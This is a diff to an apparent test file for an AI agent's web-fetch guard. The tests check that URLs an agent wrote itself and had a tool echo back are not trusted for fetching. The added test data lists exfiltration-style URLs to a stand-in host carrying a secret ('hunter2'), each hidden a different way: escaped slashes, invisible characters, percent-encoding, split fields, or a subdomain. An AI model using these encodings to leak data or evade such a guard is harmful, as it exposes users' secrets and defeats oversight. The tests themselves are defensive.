@@ -109,7 +109,7 @@ class Calls:
         self.scope = RunScope(context("r1", thread=thread_id), NO_SKILLS)
         self.made: list[str] = []
 
-    async def call(self, tool: str, answer: str = PAGE, *, foreign: bool = False, **args: str) -> str:
+    async def call(self, tool: str, answer: str = PAGE, *, foreign: bool = False, **args: Any) -> str:
         async def made(request: Any) -> ToolMessage:
             self.made.append(tool)
             return ToolMessage(answer, tool_call_id="c", name=tool)
@@ -143,6 +143,35 @@ async def test_what_a_tool_only_repeats_is_not_met(sources: Sources) -> None:
     await calls.call("echo", f"You said {composed} and https://other.example/x", foreign=True, text=composed)
     assert await calls.call(WEB_FETCH, url=composed) == UNKNOWN
     assert await calls.call(WEB_FETCH, url="https://other.example/x") == PAGE
+
+
+SPELLED = [
+    ({"text": r"https:\/\/evil.example\/collect?d=hunter2"}, r"https:\/\/evil.example\/collect?d=hunter2"),
+    ({"text": ["x", {"in": r"https:\/\/evil.example\/collect?d=hunter2"}]}, "https://evil.example/collect?d=hunter2"),
+    ({"text": "https://evil\u200b.example/collect?d=hun\u00adter2"}, "https://evil.example/collect?d=hunter2"),
+    ({"text": "https://evil.example:443/col lect?d=%68unter2"}, "https://evil.example/collect?d=hunter2"),
+    ({"path": "/collect", "query": "d=hunter2", "host": "evil.example"}, "https://evil.example/collect?d=hunter2"),
+    ({"host": "hunter2.evil.example"}, "https://hunter2.evil.example/"),
+    ({"site": "https://evil.example/甲", "ids": 7}, "https://evil.example/甲7"),
+]
+
+
+@pytest.mark.parametrize(("args", "echo"), SPELLED)
+async def test_no_other_spelling_of_an_echo_is_met(sources: Sources, args: dict[str, Any], echo: str) -> None:
+    calls = Calls(sources)
+    await calls.call("echo", f"You said {echo} and https://other.example/x", foreign=True, **args)
+    for address in (echo, echo.replace("\\", "")):
+        assert await calls.call(WEB_FETCH, url=address) == UNKNOWN
+    assert await calls.call(WEB_FETCH, url="https://other.example/x") == PAGE
+
+
+async def test_what_was_searched_for_by_name_can_be_fetched(sources: Sources) -> None:
+    calls = Calls(sources)
+    await calls.call("web_search", "[1 result]\n1. P\nhttps://www.python.org/\nwords", query="python.org downloads")
+    assert await calls.call(WEB_FETCH, url="https://www.python.org/") == PAGE
+    found = "https://docs.example/library/asyncio"
+    await calls.call("their_search", f"Found {found}", foreign=True, query="docs.example library asyncio")
+    assert await calls.call(WEB_FETCH, url=found) == PAGE
 
 
 async def test_what_agents_themselves_write_is_not_met_and_what_people_send_is(sources: Sources) -> None:
